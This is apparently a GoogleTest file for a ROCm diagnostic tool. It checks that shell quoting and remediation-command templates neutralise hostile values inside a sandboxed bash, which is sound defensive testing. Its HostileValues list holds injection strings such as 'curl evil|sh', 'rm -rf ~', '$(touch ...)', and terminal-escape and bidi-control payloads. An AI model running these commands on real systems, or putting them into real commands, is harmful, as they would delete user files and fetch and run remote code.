// SPDX-License-Identifier: MIT
// ShellQuote and the catalog's command substitution against hostile values (issue 13 item 5): each
// quoted word and each substituted command is handed to a real bash as an argument (never
// spliced into the -c script) and evaluated the way a user pasting it would; what bash ends up
// with must be the value, byte for byte, and nothing else may run.
#include "rocm_doctor/shell_quote.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "report/text_escape.h"
#include "rocm_doctor/catalog.h"
#include "rocm_doctor/finding.h"
#include "system/command_runner.h"

namespace rocm_doctor {
namespace {

namespace fs = std::filesystem;

// Where bash runs: PATH holds only fakes that log their argv (touch, curl, sh, id, rm...) and
// HOME is a scratch directory, so a quoting bug shows up as a logged call instead of running
// `rm -rf ~` or `curl evil|sh` for real.
struct Sandbox {
  Sandbox() {
    root = fs::temp_directory_path() / ("rocmdoc-quote-" + std::to_string(::getpid()));
    fs::remove_all(root);
    fs::create_directories(root / "bin");
    fs::create_directories(root / "home");
    for (const char* name : {"touch", "curl", "sh", "id", "rm", "bash", "env", "sed", "ls"}) {
      const fs::path path = root / "bin" / name;
      std::ofstream(path) << "#!/bin/bash\necho " << name << " \"$@\" >> \"$CALLS_LOG\"\n";
      fs::permissions(path, fs::perms::owner_all);
    }
  }
  ~Sandbox() { fs::remove_all(root); }
  std::string Calls() const {
    std::ifstream in(root / "calls.log");
    std::stringstream text;
    text << in.rdbuf();
    return text.str();
  }
  fs::path root;
};

Sandbox& Box() {
  static Sandbox box;
  return box;
}

std::string MarkPath() { return (Box().root / "mark").string(); }

std::vector<std::string> HostileValues() {
  const std::string mark = MarkPath();
  return {
      "",
      "alice",
      "a b",
      "it's",
      "'",
      "''",
      "\"",
      "\\",
      "x\\",
      "\\'",
      "$(touch " + mark + ")",
      "`touch " + mark + "`",
      "\"$(touch " + mark + ")\"",
      "'$(touch " + mark + ")'",
      "x$(curl evil|sh); `id`\nrm -rf ~ #.conf",
      "a\nb",
      "\n",
      "\r",
      "\t",
      "trailing\n",
      "\x1b[8mhidden\x1b[0m",
      "\x1b]52;c;ZWNobyBoaQ==\x07",
      "\x7f",
      "\x01\x02\x03",
      "\x01"
      "ab",  // \xHH must not swallow the hex digit after it
      "\x1b"
      "f0",
      "\xff\xfe",
      "\xc3\x28",
      "\xe9t\xe9",     // Latin-1, not UTF-8
      "\xc0\xaf",      // overlong '/'
      "\xed\xa0\x80",  // a surrogate
      "é",
      "日本語",
      "\xe2\x80\xae"
      "evil\xe2\x80\xac",           // RLO ... PDF
      "\xe2\x81\xa6x\xe2\x81\xa9",  // LRI ... PDI
      "\xc2\x9b"
      "31m",  // C1 CSI
      "$HOME",
      "${IFS}",
      "$'\\x41'",
      "'$'\\x41''",
      "!",
      "!!",
      "*",
      "?",
      "[a]",
      "{a,b}",
      "~",
      "~root",
      "-rf",
      "#x",
      "a#b",
      ";",
      "|",
      "&",
      "<",
      ">",
      "()",
      "a=b",
      "0000:03:00.0",
      "/etc/modprobe.d/blacklist-amdgpu.conf",
      " leading and trailing ",
  };
}

// Runs `script` under bash, in the sandbox, with `args` as $1...; stdout.
CommandOutcome Bash(const std::string& script, const std::vector<std::string>& args) {
  CommandSpec spec;
  spec.name = "bash";
  spec.argv = {"/usr/bin/env",
               "-i",
               "PATH=" + (Box().root / "bin").string(),
               "HOME=" + (Box().root / "home").string(),
               "CALLS_LOG=" + (Box().root / "calls.log").string(),
               "LC_ALL=C",
               "/bin/bash",
               "--norc",
               "--noprofile",
               "-c",
               script,
               "bash"};
  spec.argv.insert(spec.argv.end(), args.begin(), args.end());
  spec.timeout = std::chrono::seconds(20);
  return RunCommand(spec);
}

// What a command line becomes in bash: each argument of its first simple command, NUL-terminated.
// `name` is defined as a function that prints its arguments, so nothing real runs; the line is
// parsed (bash -n) before it is evaluated.
std::string ArgvOf(const std::string& line, const std::string& name) {
  const std::string script = name +
                             "() { printf '%s\\0' \"$@\"; }\n"
                             "/bin/bash -n -c \"$1\" || exit 3\n"
                             "eval \"$1\"";
  CommandOutcome out = Bash(script, {line});
  EXPECT_EQ(out.exit_code, 0) << line << "\n" << out.err;
  return out.out;
}

std::string Nul(const std::vector<std::string>& argv) {
  std::string out;
  for (const std::string& a : argv) out += a + '\0';
  return out;
}

// A printed command: one line of valid UTF-8, nothing a terminal interprets (C0, DEL, C1),
// nothing that reorders it (bidi controls); invalid bytes were written as \xHH.
void ExpectPrintableLine(const std::string& command) {
  EXPECT_EQ(report_text::ValidUtf8(command), command) << "invalid UTF-8 in " << command;
  for (unsigned char c : command) {
    EXPECT_FALSE(c < 0x20 || c == 0x7F) << "control byte " << int(c) << " in " << command;
  }
  for (std::string_view bad : {"\xc2\x80", "\xc2\x9b", "\xc2\x9f", "\xe2\x80\xae", "\xe2\x80\xac",
                               "\xe2\x81\xa6", "\xe2\x81\xa9"}) {
    EXPECT_EQ(command.find(bad), std::string::npos) << "C1 or bidi control in " << command;
  }
}

class ShellQuoteTest : public ::testing::Test {
 protected:
  void SetUp() override { fs::remove(Box().root / "calls.log"); }
  void TearDown() override {
    EXPECT_EQ(Box().Calls(), "") << "a quoted value ran a command";
    EXPECT_FALSE(fs::exists(MarkPath()));
  }
};

TEST_F(ShellQuoteTest, SafeWordsStayAsTheyAre) {
  for (std::string_view word : {"alice", "0000:03:00.0", "/etc/modprobe.d/blacklist-amdgpu.conf",
                                "render,video", "gfx90a:xnack-", "10.3.0", "a=b", "x@y%z+"}) {
    EXPECT_EQ(ShellQuote(word), word);
  }
  EXPECT_EQ(ShellQuote(""), "''");
  EXPECT_EQ(ShellQuote("a b"), "'a b'");
  EXPECT_EQ(ShellQuote("it's"), "'it'\\''s'");
  EXPECT_EQ(ShellQuote("a\nb"), "$'a\\x0ab'");
  EXPECT_EQ(ShellQuoteInSingleQuotes("import torch"), "import torch");
}

TEST_F(ShellQuoteTest, EveryHostileValueRoundTripsThroughBash) {
  std::vector<std::string> words;
  for (const std::string& v : HostileValues()) {
    const std::string word = ShellQuote(v);
    ExpectPrintableLine(word);
    words.push_back(word);
  }
  // One bash for all: each quoted word is evaluated as shell code, as a pasted command is.
  const std::string script =
      "for w in \"$@\"; do /bin/bash -n -c \"set -- $w\" || exit 3; eval \"set -- $w\"; "
      "[ $# -eq 1 ] || exit 4; printf '%s\\0' \"$1\"; done";
  CommandOutcome out = Bash(script, words);
  ASSERT_EQ(out.exit_code, 0) << out.err;
  EXPECT_EQ(out.out, Nul(HostileValues()));
}

TEST_F(ShellQuoteTest, InsideSingleQuotesRoundTripsThroughBash) {
  std::vector<std::string> words;
  for (const std::string& v : HostileValues()) {
    const std::string word = "'<" + ShellQuoteInSingleQuotes(v) + ">'";
    ExpectPrintableLine(word);
    words.push_back(word);
  }
  const std::string script =
      "for w in \"$@\"; do eval \"set -- $w\"; [ $# -eq 1 ] || exit 4; printf '%s\\0' \"$1\"; done";
  CommandOutcome out = Bash(script, words);
  ASSERT_EQ(out.exit_code, 0) << out.err;
  std::vector<std::string> expected;
  for (const std::string& v : HostileValues()) expected.push_back("<" + v + ">");
  EXPECT_EQ(out.out, Nul(expected));
}

// The catalog's templates put a value as a word, inside '...', inside "...", inside "$(...)"
// and in a # comment; each command must stay one line that bash reads as the template meant.
constexpr std::string_view kWord[] = {"sudo sed -i '3s/^/# /' {v}"};
constexpr std::string_view kSingle[] = {"sudo -c 'import {v}; print({v})'"};
constexpr std::string_view kDouble[] = {"sudo \"pre-{v}-post\" x"};
constexpr std::string_view kSubshell[] = {"sudo \"$(printf %s {v})\" x"};
constexpr std::string_view kComment[] = {"sudo {v}   # then {v} and {v}"};
constexpr std::string_view kFragment[] = {"{!v}"};
constexpr FindingSpec kQuoteSpecs[] = {
    {.code = "test.quote.word",
     .severity = Status::kFail,
     .title = "t",
     .remediation = "r",
     .commands = kWord},
    {.code = "test.quote.single",
     .severity = Status::kFail,
     .title = "t",
     .remediation = "r",
     .commands = kSingle},
    {.code = "test.quote.double",
     .severity = Status::kFail,
     .title = "t",
     .remediation = "r",
     .commands = kDouble},
    {.code = "test.quote.subshell",
     .severity = Status::kFail,
     .title = "t",
     .remediation = "r",
     .commands = kSubshell},
    {.code = "test.quote.comment",
     .severity = Status::kFail,
     .title = "t",
     .remediation = "r",
     .commands = kComment},
    {.code = "test.quote.fragment",
     .severity = Status::kFail,
     .title = "t",
     .remediation = "r",
     .commands = kFragment},
};
ROCMDOC_REGISTER_FINDINGS(kQuoteSpecs);

std::string CommandFor(std::string_view code, const std::string& value) {
  Finding f;
  f.code = std::string(code);
  f.params = {{"v", value}};
  Remediation r = Catalog::Instance().RemediationFor(f);
  EXPECT_EQ(r.commands.size(), 1u);
  return r.commands.empty() ? "" : r.commands.front();
}

TEST_F(ShellQuoteTest, CatalogQuotesEachPlaceholderForWhereItStands) {
  for (const std::string& v : HostileValues()) {
    SCOPED_TRACE(::testing::PrintToString(v));
    const std::string word = CommandFor("test.quote.word", v);
    ExpectPrintableLine(word);
    EXPECT_EQ(ArgvOf(word, "sudo"), Nul({"sed", "-i", "3s/^/# /", v}));

    const std::string single = CommandFor("test.quote.single", v);
    ExpectPrintableLine(single);
    EXPECT_EQ(ArgvOf(single, "sudo"), Nul({"-c", "import " + v + "; print(" + v + ")"}));

    const std::string dbl = CommandFor("test.quote.double", v);
    ExpectPrintableLine(dbl);
    EXPECT_EQ(ArgvOf(dbl, "sudo"), Nul({"pre-" + v + "-post", "x"}));

    // printf %s drops nothing but a trailing newline is lost to $(...), as always.
    const std::string sub = CommandFor("test.quote.subshell", v);
    ExpectPrintableLine(sub);
    std::string printed = v;
    while (!printed.empty() && printed.back() == '\n') printed.pop_back();
    EXPECT_EQ(ArgvOf(sub, "sudo"), Nul({printed, "x"}));

    const std::string comment = CommandFor("test.quote.comment", v);
    ExpectPrintableLine(comment);
    EXPECT_EQ(ArgvOf(comment, "sudo"), Nul({v}));
  }
  // The safe words of ordinary reports print exactly as before the quoting.
  EXPECT_EQ(CommandFor("test.quote.word", "/etc/modprobe.d/blacklist-amdgpu.conf"),
            "sudo sed -i '3s/^/# /' /etc/modprobe.d/blacklist-amdgpu.conf");
  EXPECT_EQ(CommandFor("test.quote.single", "torch"), "sudo -c 'import torch; print(torch)'");
}

TEST_F(ShellQuoteTest, AFragmentNeverSplitsTheCommandLine) {
  // "{!v}" is what a check built with ShellQuote; a control byte in it still stays on the line.
  const std::string fragment = CommandFor("test.quote.fragment", "echo a\nrm -rf ~\r\x1b[2J");
  EXPECT_EQ(fragment.find_first_of("\n\r\x1b"), std::string::npos) << fragment;
  EXPECT_EQ(CommandFor("test.quote.fragment", "export A='x y'"), "export A='x y'");
}

TEST_F(ShellQuoteTest, WordsJoinEachQuoted) {
  EXPECT_EQ(ShellQuoteWords(std::vector<std::string>{"rocm-hip", "a b", ""}), "rocm-hip 'a b' ''");
}

}  // namespace
}  // namespace rocm_doctor
